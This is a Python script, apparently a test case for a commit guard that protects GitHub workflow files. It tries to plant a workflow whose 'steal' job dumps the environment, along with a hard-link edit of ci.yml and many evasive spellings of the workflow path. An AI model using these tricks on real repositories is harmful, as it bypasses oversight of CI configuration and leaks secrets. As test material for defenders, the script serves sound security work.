"""
Puts workflows and actions into the commit under every spelling that some system takes for .github/workflows: other cases,
characters that macOS leaves out, what Windows cuts off at the end of a name or behind a colon, its short names, and by way
of a hard link, which changes the existing workflow by another name.
Success: any of them is in the commit, or the existing workflow is changed.
"""
import os

os.chdir('/workspace')
evil = 'on: push\njobs: {steal: {runs-on: ubuntu-latest, steps: [{run: "env"}]}}\n'
os.link('.github/workflows/ci.yml', 'harmless.yml')
with open('harmless.yml', 'a') as file:
    file.write(evil)
os.remove('.github/workflows/old.yml')
for directory in (
    '.github/workflows', '.github/workflows/sub', '.github/actions/leak', '.GITHUB/workflows', '.github/WORKFLOWS', '.GitHub/Actions/x',
    '.g\u200cithub/workflows', '.github/work\u200dflows', '.github\ufeff/workflows', '.github./workflows', '.github /workflows',
    '.github/workflows.', '.github/workflows .. ', '.github::$INDEX_ALLOCATION/workflows', '.github/workflows:x', 'GITHUB~1/workflows',
    '.github/WORKFL~1', 'github~2/action~1',
):
    os.makedirs(directory, exist_ok=True)
    with open(f'{directory}/steal.yml', 'w') as file:
        file.write(evil)
